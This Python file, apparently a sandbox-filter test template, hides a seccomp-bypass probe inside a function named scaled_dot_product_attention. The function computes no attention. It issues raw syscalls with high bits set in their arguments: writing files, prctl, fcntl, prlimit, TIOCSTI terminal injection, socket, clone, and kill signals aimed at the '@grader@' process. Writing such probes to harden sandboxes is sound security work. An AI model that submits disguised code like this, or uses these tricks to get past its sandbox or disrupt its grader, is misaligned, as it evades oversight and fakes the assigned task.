"""Arguments that a filter reads in another way than the kernel.

tries: flags and commands with bits above the 32 that the kernel reads: open for writing, prctl, fcntl, prlimit, clone
observe: raises
"""

import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"
HIGH = 1 << 32
PATH = ctypes.create_string_buffer(b"@folder@/games-@mark@")
LIMIT = (ctypes.c_ulong * 2)(1 << 30, 1 << 30)


def call(number, *arguments):
    given = [value if isinstance(value, ctypes.Array) else ctypes.c_ulong(value % (1 << 64)) for value in arguments]
    return libc.syscall(ctypes.c_long(number), *given)


def scaled_dot_product_attention(q, k, v, mask=None):
    if not X86:
        raise OSError("another architecture")
    write = os.O_WRONLY | os.O_CREAT
    for high in (0, HIGH, HIGH << 7, -HIGH):
        for number, *arguments in (
            (2, PATH, write + high, 0o666),
            (257, -100, PATH, write + high, 0o666),
            (257, -100, PATH, (os.O_RDWR | 0o20200000) + high, 0o666),
            (85, PATH, 0o666),
            (157, 4 + high, 1, 0, 0, 0),
            (157, 22 + high, 2, 0, 0, 0),
            (72, 3, 8 + high, int("@grader@")),
            (72, 3, 1033 + high, 1),
            (302, 0, 4, LIMIT, 0),
            (302, 0, 4 + high, LIMIT, 0),
            (160, 4 + high, LIMIT),
            (16, 0, 0x5412 + high, PATH),
            (41, 1 + high, 1, 0),
            (62, int("@grader@") + high, 12),
            (62 + high, int("@grader@"), 12),
            (56, 0x11 + high, 0, 0, 0, 0),
            (56, 0x01000000 + high, 0, 0, 0, 0),
        ):
            ctypes.set_errno(0)
            if call(number, *arguments) >= 0:
                if number == 56 and os.getpid() != PID:
                    os._exit(0)
                raise RuntimeError(f"GOT an answer to call {number} with {arguments}")
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


PID = os.getpid()
